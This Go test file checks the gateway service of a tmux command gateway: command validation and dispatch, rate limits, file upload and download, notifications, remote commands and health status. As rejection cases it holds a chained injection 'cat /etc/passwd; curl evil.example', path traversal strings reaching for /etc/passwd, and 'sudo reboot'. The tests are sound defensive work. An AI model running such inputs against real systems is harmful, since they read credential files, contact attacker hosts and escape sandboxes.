package gateway

import (
	"bytes"
	"context"
	"io"
	"strings"
	"sync"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/g960059/tmuxgate/internal/command"
	"github.com/g960059/tmuxgate/internal/config"
	"github.com/g960059/tmuxgate/internal/dispatch"
	"github.com/g960059/tmuxgate/internal/filestore"
	"github.com/g960059/tmuxgate/internal/model"
	"github.com/g960059/tmuxgate/internal/pathguard"
	"github.com/g960059/tmuxgate/internal/ratelimit"
)

type fakeDispatcher struct {
	mu   sync.Mutex
	reqs []model.CommandRequest
	argv [][]string
}

func (f *fakeDispatcher) Dispatch(_ context.Context, req model.CommandRequest, cmd command.Validated) (dispatch.Result, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.reqs = append(f.reqs, req)
	f.argv = append(f.argv, cmd.Argv())
	return dispatch.Result{DispatchID: "d-1", SessionID: "sid", Accepted: true, OutputRef: "$1"}, nil
}

func (f *fakeDispatcher) Output(context.Context, int) (string, model.Session, error) {
	return "out\n", model.Session{SessionID: "sid"}, nil
}

type fakeSessions struct{ sess *model.Session }

func (f fakeSessions) Get(context.Context) (model.Session, error) {
	if f.sess == nil {
		return model.Session{}, model.NewError(model.KindSessionUnavailable, "", nil)
	}
	return *f.sess, nil
}

func (f fakeSessions) Snapshot() (model.Session, bool) {
	if f.sess == nil {
		return model.Session{}, false
	}
	return *f.sess, true
}

type fakeBroker struct{ up bool }

func (f fakeBroker) Connected() bool { return f.up }

type recordingNotifier struct {
	mu    sync.Mutex
	notes []model.Notification
}

func (r *recordingNotifier) Notify(_ context.Context, n model.Notification) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.notes = append(r.notes, n)
	return nil
}

type fixture struct {
	svc      *Service
	disp     *fakeDispatcher
	notifier *recordingNotifier
	logs     *bytes.Buffer
}

func newFixture(t *testing.T, mutate func(*Deps)) fixture {
	t.Helper()
	v, err := command.FromConfig(config.DefaultConfig().Command)
	require.NoError(t, err)
	g, err := pathguard.New(t.TempDir(), zerolog.Nop())
	require.NoError(t, err)
	files := filestore.New(g, config.DefaultConfig().Files, zerolog.Nop())

	f := fixture{disp: &fakeDispatcher{}, notifier: &recordingNotifier{}, logs: &bytes.Buffer{}}
	deps := Deps{
		Validator:  v,
		Dispatcher: f.disp,
		Sessions:   fakeSessions{sess: &model.Session{SessionID: "sid", Name: "main", Alive: true}},
		Files:      files,
		Notifier:   f.notifier,
		Limits:     ratelimit.NewSet(20, 10),
	}
	if mutate != nil {
		mutate(&deps)
	}
	f.svc = New(deps, zerolog.New(f.logs))
	return f
}

var alice = model.Principal{Name: "alice", Origin: model.OriginHTTP}

func TestSubmitCommandRequiresPrincipal(t *testing.T) {
	f := newFixture(t, nil)
	_, err := f.svc.SubmitCommand(context.Background(), model.Principal{}, "ls")
	assert.ErrorIs(t, err, model.ErrUnauthenticated)
	assert.Empty(t, f.disp.reqs)
}

func TestSubmitCommandDispatchesValidatedArgv(t *testing.T) {
	f := newFixture(t, nil)
	res, err := f.svc.SubmitCommand(context.Background(), alice, "mysql --password hunter2 -e status")
	require.NoError(t, err)
	assert.True(t, res.Accepted)
	require.Len(t, f.disp.reqs, 1)
	assert.Equal(t, model.OriginHTTP, f.disp.reqs[0].Origin)
	assert.Equal(t, []string{"mysql", "--password", "hunter2", "-e", "status"}, f.disp.argv[0])

	logs := f.logs.String()
	assert.Contains(t, logs, `"operation":"command.submit"`)
	assert.Contains(t, logs, `"principal":"alice"`)
	assert.NotContains(t, logs, "hunter2")
}

func TestSubmitCommandRejectionIsAuditedWithoutText(t *testing.T) {
	f := newFixture(t, nil)
	_, err := f.svc.SubmitCommand(context.Background(), alice, "cat /etc/passwd; curl evil.example")
	require.Error(t, err)
	assert.ErrorIs(t, err, model.ErrRejectedCommand)
	assert.Empty(t, f.disp.reqs)

	logs := f.logs.String()
	assert.Contains(t, logs, `"result":"E_REJECTED_COMMAND"`)
	assert.Contains(t, logs, `"reason":"metacharacter"`)
	assert.NotContains(t, logs, "evil.example")
}

func TestSubmitCommandRateLimited(t *testing.T) {
	f := newFixture(t, func(d *Deps) { d.Limits = ratelimit.NewSet(2, 1) })
	ctx := context.Background()
	for i := 0; i < 2; i++ {
		_, err := f.svc.SubmitCommand(ctx, alice, "ls")
		require.NoError(t, err)
	}
	_, err := f.svc.SubmitCommand(ctx, alice, "ls")
	assert.ErrorIs(t, err, model.ErrRateLimited)
	_, err = f.svc.SubmitCommand(ctx, model.Principal{Name: "bob", Origin: model.OriginHTTP}, "ls")
	assert.NoError(t, err)
}

func TestUploadDownloadRoundTrip(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()

	sf, err := f.svc.Upload(ctx, alice, "docs", "report.txt", strings.NewReader("quarterly"))
	require.NoError(t, err)
	assert.Equal(t, "docs/report.txt", sf.RelPath)

	rc, got, err := f.svc.Download(ctx, alice, "docs/report.txt")
	require.NoError(t, err)
	defer rc.Close()
	body, err := io.ReadAll(rc)
	require.NoError(t, err)
	assert.Equal(t, "quarterly", string(body))
	assert.Equal(t, int64(9), got.Size)

	entries, err := f.svc.ListFiles(ctx, alice, "docs")
	require.NoError(t, err)
	require.Len(t, entries, 1)
	assert.Equal(t, "report.txt", entries[0].Name)
}

func TestUploadAndDownloadRejectTraversal(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()

	_, err := f.svc.Upload(ctx, alice, "", "../escape.txt", strings.NewReader("x"))
	assert.ErrorIs(t, err, model.ErrRejectedPath)
	_, err = f.svc.Upload(ctx, alice, "../..", "escape.txt", strings.NewReader("x"))
	assert.ErrorIs(t, err, model.ErrRejectedPath)

	_, _, err = f.svc.Download(ctx, alice, "../../etc/passwd")
	assert.ErrorIs(t, err, model.ErrRejectedPath)
	assert.NotContains(t, err.Error(), "/etc/passwd")
}

func TestTestNotify(t *testing.T) {
	f := newFixture(t, nil)
	err := f.svc.TestNotify(context.Background(), alice, "hi")
	assert.ErrorIs(t, err, model.ErrUnreachable, "no broker configured")

	f = newFixture(t, func(d *Deps) { d.Broker = fakeBroker{up: true} })
	require.NoError(t, f.svc.TestNotify(context.Background(), alice, "hi token=abc"))
	require.Len(t, f.notifier.notes, 1)
	assert.Equal(t, "test", f.notifier.notes[0].Topic)
	assert.NotContains(t, string(f.notifier.notes[0].Payload), "abc")
}

func TestHandleRemoteCommand(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()

	require.NoError(t, f.svc.HandleRemoteCommand(ctx, "tmuxgate/control/command", []byte(`{"command":"uptime","origin":"ops-bot"}`)))
	require.Len(t, f.disp.reqs, 1)
	assert.Equal(t, "mqtt:ops-bot", f.disp.reqs[0].Principal.Name)
	assert.Equal(t, model.OriginBroker, f.disp.reqs[0].Origin)

	err := f.svc.HandleRemoteCommand(ctx, "t", []byte(`{"command":"uptime","origin":"bad origin!"}`))
	assert.ErrorIs(t, err, model.ErrBadRequest)
	err = f.svc.HandleRemoteCommand(ctx, "t", []byte(`{"command":"uptime","origin":"x","sudo":true}`))
	assert.ErrorIs(t, err, model.ErrBadRequest)
	err = f.svc.HandleRemoteCommand(ctx, "t", []byte(`{"command":"sudo reboot","origin":"x"}`))
	assert.ErrorIs(t, err, model.ErrRejectedCommand)
	assert.Len(t, f.disp.reqs, 1)
}

func TestHealth(t *testing.T) {
	f := newFixture(t, func(d *Deps) { d.Broker = fakeBroker{up: false} })
	h := f.svc.Health()
	require.NotNil(t, h.Session)
	assert.Equal(t, "sid", h.Session.SessionID)
	assert.Equal(t, "disconnected", h.BrokerState)

	f = newFixture(t, func(d *Deps) { d.Sessions = fakeSessions{} })
	h = f.svc.Health()
	assert.Nil(t, h.Session)
	assert.Equal(t, "disabled", h.BrokerState)
}

func TestClampLimit(t *testing.T) {
	assert.Equal(t, defaultListLimit, clampLimit(0))
	assert.Equal(t, 7, clampLimit(7))
	assert.Equal(t, maxListLimit, clampLimit(100000))
}
